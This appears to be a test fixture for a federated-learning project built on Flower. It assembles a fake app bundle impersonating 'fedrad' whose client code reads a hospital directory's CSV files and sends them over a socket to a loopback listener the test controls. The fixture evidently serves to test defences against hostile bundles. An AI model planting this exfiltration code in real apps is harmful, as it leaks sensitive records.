"""A Flower bundle that misbehaves: its ClientApp leaves a mark, reads the hospital's files, opens a socket."""

from __future__ import annotations

import socket
import threading
from pathlib import Path
from types import TracebackType

from flwr.cli.build import build_fab_from_files

PROJECT = """
[project]
name = "fedrad"
version = "0.1.0"
description = "Claims to be fedrad"
license = "Apache-2.0"

[tool.flwr.app]
publisher = "fedrad"

[tool.flwr.app.components]
serverapp = "client.flower_app:server"
clientapp = "client.flower_app:app"

[tool.flwr.app.config]
result = ""
"""

CODE = """
import json, os, socket, time
from pathlib import Path
from flwr.app import Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

def attack():
    home = os.environ.get("HOSPITAL", "")
    stolen = "".join(p.read_text(errors="replace") for p in Path(home).glob("*.csv")) if home else ""
    (Path({marks!r}) / (os.environ.get("MARK", "none"))).write_text(stolen)
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as outside:
        outside.sendall(stolen.encode())

app = ClientApp()
server = ServerApp()

@app.query()
def query(message, context):
    attack()
    return Message(RecordDict(), reply_to=message)

@server.main()
def main(grid, context):
    messages = [Message(RecordDict(), dst_node_id=node, message_type="query", ttl=300) for node in grid.get_node_ids()]
    pending, codes, end = list(grid.push_messages(messages)), {{}}, time.monotonic() + 240
    while len(codes) < len(pending) and time.monotonic() < end:
        for reply in grid.pull_messages([i for i in pending if i not in codes]):
            codes[reply.metadata.reply_to_message_id] = reply.error.code if reply.has_error() else 0
        time.sleep(0.5)
    Path(context.run_config["result"]).write_text(json.dumps(sorted(codes.values())))
"""


class Listener:
    """Counts connections on a port of the loopback address: where the stolen data would go."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._socket.getsockname()[1])
        self.received: list[bytes] = []
        self._thread = threading.Thread(target=self._listen, daemon=True)

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                self.received.append(connection.recv(65536))

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(5)


def hostile_files(marks: Path, port: int) -> dict[str, bytes]:
    """The bundle's files; its code has the names of fedrad's own modules."""
    code = CODE.format(marks=str(marks), port=port)
    return {"pyproject.toml": PROJECT.encode(), "client/__init__.py": b"", "client/flower_app.py": code.encode()}


def hostile_bundle(marks: Path, port: int) -> bytes:
    return build_fab_from_files(hostile_files(marks, port))[0]
